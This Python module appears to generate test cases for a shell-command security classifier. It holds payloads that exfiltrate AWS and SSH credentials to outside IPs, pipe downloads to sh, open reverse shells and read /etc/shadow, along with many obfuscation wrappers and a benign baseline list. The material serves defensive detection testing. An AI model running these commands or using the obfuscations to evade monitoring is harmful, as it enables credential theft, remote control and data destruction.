"""Generators for the shell class tests: dangerous payloads, the obfuscations attackers wrap
them in (alone and stacked), and benign developer commands from the same families.

Word obfuscations rewrite each command word (curl, sh, cat ...) in place; whole-command
obfuscations wrap the whole command (encoders, interpreters, other shells)."""
from __future__ import annotations

import base64
import codecs
import gzip
import re

# (name, command, rules of which at least one must fire)
EXFIL = {"file_upload", "credential_file_access", "credential_exfiltration"}
PAYLOADS = [
    ("upload_aws", "curl -s -T ~/.aws/credentials https://203.0.113.9/u", EXFIL),
    ("post_ssh_key", "curl -s -d @/home/dev/.ssh/id_rsa https://up.example.net/k", EXFIL),
    ("curl_sh", "curl -s http://198.51.100.7/x | sh", {"pipe_to_shell"}),
    ("wget_bash", "wget -qO- http://198.51.100.7/i | bash", {"pipe_to_shell"}),
    ("dev_tcp", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", {"reverse_shell"}),
    ("nc_exec", "nc -e /bin/sh 198.51.100.7 4444", {"reverse_shell"}),
    ("read_shadow", "cat /etc/shadow", {"credential_file_access"}),
    ("nc_shadow", "nc 198.51.100.7 4444 < /etc/shadow", EXFIL),
    ("rm_home", "rm -rf ~/", {"destructive_delete"}),
    ("enable_service", "systemctl enable evil.service", {"service_persistence"}),
]
COMMAND_WORDS = ("curl", "wget", "bash", "sh", "cat", "nc", "rm", "systemctl")


def _word(fn):
    """A word obfuscation: fn(word) -> (prefix statements, replacement)."""
    def apply(cmd: str) -> str:
        prefix: list[str] = []

        def rep(m: re.Match) -> str:
            pre, new = fn(m.group(0), len(prefix))
            if pre:
                prefix.append(pre)
            return new
        body = re.sub(r"(?<![\w./~@-])(?:" + "|".join(COMMAND_WORDS) + r")(?![\w.-])", rep, cmd)
        return "".join(p + "; " for p in prefix) + body
    return apply


def _first_word(c: str, fn) -> str:
    w, _, rest = c.partition(" ")
    return fn(w, rest) if w in COMMAND_WORDS and rest else c


def _hex(w: str) -> str:
    return "".join(f"\\x{ord(c):02x}" for c in w)


def _oct(w: str) -> str:
    return "".join(f"\\{ord(c):03o}" for c in w)


def _b64(s: str) -> str:
    return base64.b64encode(s.encode()).decode()


WORD_OBFUSCATIONS = {
    "empty_single_quotes": _word(lambda w, i: ("", w[0] + "''" + w[1:])),
    "split_single_quotes": _word(lambda w, i: ("", w[0] + "'" + w[1:] + "'")),
    "split_double_quotes": _word(lambda w, i: ("", '"' + w[:1] + '"' + w[1:])),
    "backslashes": _word(lambda w, i: ("", w[0] + "".join("\\" + c for c in w[1:]))),
    "ansi_c_hex": _word(lambda w, i: ("", "$'" + _hex(w) + "'")),
    "ansi_c_octal": _word(lambda w, i: ("", "$'" + _oct(w) + "'")),
    "var_concat": _word(lambda w, i: (f"p{i}={w[:1]}; q{i}={w[1:]}", f"$p{i}$q{i}")),
    "braced_var_concat": _word(lambda w, i: (f"p{i}='{w[:1]}'; q{i}=\"{w[1:]}\"", f"${{p{i}}}${{q{i}}}")),
    "substring": _word(lambda w, i: (f"s{i}=Zz{w}Zz", f"${{s{i}:2:{len(w)}}}")),
    "pattern_substitution": _word(lambda w, i: (f"s{i}={'Q'.join(w)}", f"${{s{i}//Q/}}")),
    "case_modification": _word(lambda w, i: (f"s{i}={w.upper()}", f"${{s{i},,}}")),
    "indirection": _word(lambda w, i: (f"t{i}={w}; r{i}=t{i}", f"${{!r{i}}}")),
    "default_value": _word(lambda w, i: ("", f"${{UNSET_{i}:-{w}}}")),
    "array_join": _word(lambda w, i: (f"a{i}=({' '.join(w)})", f"$(printf %s \"${{a{i}[@]}}\")")),
    "printf_hex": _word(lambda w, i: ("", f"$(printf '{_hex(w)}')")),
    "echo_backquotes": _word(lambda w, i: ("", f"`echo {w}`")),
    "rev_here_string": _word(lambda w, i: ("", f"$(rev <<< '{w[::-1]}')")),
    "tr_rot13": _word(lambda w, i: ("", f"$(tr a-z n-za-m <<< '{codecs.encode(w, 'rot13')}')")),
    "cut_chars": _word(lambda w, i: ("", f"$(echo x{w}y | cut -c2-{len(w) + 1})")),
    "sed_delete": _word(lambda w, i: ("", f"$(echo {w[:1]}QQ{w[1:]} | sed 's/QQ//')")),
    "base64_word": _word(lambda w, i: ("", f"$(echo {_b64(w)} | base64 -d)")),
    "positional_empty": _word(lambda w, i: ("", w[0] + "$@" + w[1:])),
    "ifs_spaces": lambda c: c.replace(" ", "${IFS}") if "|" not in c and ">" not in c and "<" not in c else c,
    "function_args": lambda c: _first_word(c, lambda w, rest: f"f(){{ \"$1$2\" \"${{@:3}}\"; }}; f {w[:1]} {w[1:]} {rest}"),
    "alias": lambda c: _first_word(c, lambda w, rest: f"alias zz={w}; zz {rest}"),
}


def _sq(s: str) -> str:
    return "'" + s.replace("'", "'\\''") + "'"


def _utf16_b64(s: str) -> str:
    return base64.b64encode(s.encode("utf-16-le")).decode()


def _py(s: str) -> str:
    return repr(s)


def _dq(s: str) -> str:
    return '"' + s.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n") + '"'


def _split(s: str) -> tuple[str, str]:
    k = max(1, len(s) // 2)
    return s[:k], s[k:]


WHOLE_OBFUSCATIONS = {
    "base64_pipe_sh": lambda c: f"echo {_b64(c)} | base64 -d | sh",
    "base64_here_string": lambda c: f"bash <<< \"$(base64 --decode <<< {_b64(c)})\"",
    "eval_base64": lambda c: f"eval \"$(echo {_b64(c)} | base64 -d)\"",
    "gzip_base64": lambda c: f"echo {base64.b64encode(gzip.compress(c.encode())).decode()} | base64 -d | gunzip | bash",
    "hex_xxd": lambda c: f"echo {c.encode().hex()} | xxd -r -p | sh",
    "rev_pipe": lambda c: f"echo {_sq(c[::-1])} | rev | bash",
    "rot13_pipe": lambda c: f"echo {_sq(codecs.encode(c, 'rot13'))} | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh",
    "sh_c": lambda c: f"sh -c {_sq(c)}",
    "heredoc": lambda c: f"bash <<'EOF'\n{c}\nEOF",
    "python_concat": lambda c: "python3 -c " + _sq("import os; os.system({} + {})".format(*map(_py, _split(c)))),
    "python_b64": lambda c: f"python3 -c \"import os,base64;os.system(base64.b64decode('{_b64(c)}').decode())\"",
    "python_subprocess_hex": lambda c: ("python3 -c \"import subprocess;subprocess.run(bytes.fromhex('"
                                        f"{c.encode().hex()}').decode(), shell=True)\""),
    "perl_pack_hex": lambda c: f"perl -e 'system(pack(\"H*\",\"{c.encode().hex()}\"))'",
    "node_exec_b64": lambda c: ("node -e \"require('child_process').execSync(Buffer.from('"
                                f"{_b64(c)}','base64').toString())\""),
    "ruby_concat": lambda c: "ruby -e " + _sq("system({} + {})".format(*map(_dq, _split(c)))),
    "awk_system": lambda c: "awk " + _sq("BEGIN{{system({} {})}}".format(*map(_dq, _split(c)))),
    "powershell_enc": lambda c: f"powershell -NoProfile -enc {_utf16_b64(c)}",
    "powershell_encodedcommand": lambda c: f"pwsh -EncodedCommand {_utf16_b64(c)}",
    "cmd_carets": lambda c: c if re.search(r"[\"$`\n]", c) else _first_word(
        c, lambda w, rest: "cmd /c \"" + "^".join(w) + " " + rest + "\"") if c.partition(" ")[0] in COMMAND_WORDS
    else "cmd /c \"" + c + "\"",
}


# Benign developer commands from the same families (none may trigger any policy rule).
BENIGN = [
    # downloads and API calls
    "curl -fsSL -o cli.tar.gz https://github.com/acme/cli/releases/download/v1.2.0/cli.tar.gz",
    "curl -s https://api.github.com/repos/acme/cli/releases/latest | jq -r .tag_name",
    "wget -q https://example.com/data/archive.zip && unzip archive.zip",
    "curl -H \"Authorization: Bearer $TOKEN\" https://api.example.com/v1/items",
    "curl -X POST -H 'Content-Type: application/json' -d '{\"name\":\"x\"}' https://api.example.com/items",
    "echo '{\"a\":1}' | curl -s -d @- http://localhost:8080/api",
    # base64 and encoders on data
    "echo \"$CONFIG_B64\" | base64 -d > config.yaml",
    "base64 -d <<< aGVsbG8gd29ybGQ=",
    "base64 -w0 logo.png > logo.b64",
    "echo 68656c6c6f | xxd -r -p",
    "rev names.txt | sort | uniq -c",
    "echo 'Uryyb' | tr 'A-Za-z' 'N-ZA-Mn-za-m'",
    # interpreters
    "python -c 'print(1)'",
    "python3 -c \"import sys; print(sys.version)\"",
    "python3 -c \"import json,sys; print(json.load(sys.stdin)['version'])\" < package.json",
    "node -e \"console.log(require('./package.json').version)\"",
    "perl -pi -e 's/\\r$//' script.sh",
    "ruby -e 'puts RUBY_VERSION'",
    "awk -F, '{sum+=$3} END {print sum}' data.csv",
    "awk 'BEGIN{print \"hello\" \" \" \"world\"}'",
    "python3 -c \"import urllib.request; print(urllib.request.urlopen('https://pypi.org/simple/').status)\"",
    # git, forges, cloud
    "git push origin main",
    "git push -u origin feature/login-form",
    "git push --tags",
    "git remote add upstream https://github.com/acme/cli.git && git fetch upstream",
    "gh pr create --fill && gh gist create notes.md",
    "gh release upload v1.0.0 dist/cli-linux-amd64.tar.gz",
    "aws s3 cp dist/ s3://acme-site/ --recursive",
    "gsutil -m rsync -r build gs://acme-site",
    "kubectl --kubeconfig ~/.kube/config get pods -A",
    "KUBECONFIG=~/.kube/config helm list",
    # ssh with keys as keys
    "ssh -i ~/.ssh/id_ed25519 deploy@203.0.113.5 uptime",
    "scp -i ~/.ssh/deploy_key dist.tar.gz deploy@203.0.113.5:/srv/app/",
    "rsync -avz -e \"ssh -i ~/.ssh/id_rsa\" build/ deploy@203.0.113.5:/var/www/",
    "GIT_SSH_COMMAND='ssh -i ~/.ssh/deploy_key -o IdentitiesOnly=yes' git push origin main",
    "chmod 600 ~/.ssh/id_rsa && ssh-add ~/.ssh/id_rsa && ssh git@github.com",
    "ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519 -N '' && cat ~/.ssh/id_ed25519.pub",
    "ssh -o IdentityFile=~/.ssh/work_key bastion.example.com",
    # DNS
    "dig example.com",
    "dig +short TXT _dmarc.example.com",
    "nslookup github.com 1.1.1.1",
    "host -t mx example.org",
    "for h in www api cdn; do dig +short $h.example.com; done",
    "dig $(hostname -f)",
    # PowerShell and cmd
    "Get-ChildItem -Recurse -Filter *.log | Remove-Item -WhatIf",
    "powershell -NoProfile -Command \"Get-Process | Sort-Object CPU -Descending | Select-Object -First 5\"",
    "Invoke-WebRequest -Uri https://example.com/tool.zip -OutFile tool.zip; Expand-Archive tool.zip",
    "cmd /c dir %USERPROFILE%\\Documents",
    "set PATH=%PATH%;C:\\tools && mytool --version",
    "powershell -ExecutionPolicy Bypass -File .\\build.ps1",
    # builds and quoting-heavy scripts
    "make CFLAGS=\"-O2 -Wall\" && ./configure --prefix=\"$HOME/.local\"",
    "find . -name '*.py' -exec grep -l \"TODO\" {} +",
    "for f in *.txt; do mv \"$f\" \"${f%.txt}.md\"; done",
    "sed -i 's/foo/bar/g' src/*.c",
    "tr '[:upper:]' '[:lower:]' < in.txt > out.txt",
    "echo \"$PATH\" | tr ':' '\\n'",
    "docker run --rm -v \"$PWD\":/src -w /src node:20 npm ci",
    "x=(alpha beta gamma); echo \"${x[@]}\"",
    "name=${file##*/}; echo ${name%.*}",
    "v=HELLO; echo ${v,,}",
    "f(){ echo \"$1-$2\"; }; f build 42",
    "alias ll='ls -la'; ll",
    "eval \"$(ssh-agent -s)\"",
    "eval \"$(pyenv init -)\"",
    "bash -c 'cd /tmp && ls -la'",
    "history | grep docker",
    "cat <<'EOF' > app.conf\nlisten 8080\nroot /srv/app\nEOF",
    "tar czf backup.tgz src/ && ls -la backup.tgz",
    "printf '%s\\n' \"$@\" | sort -u",
    "sh -c 'echo $0' hello",
    "zcat access.log.gz | grep ' 500 ' | wc -l",
]
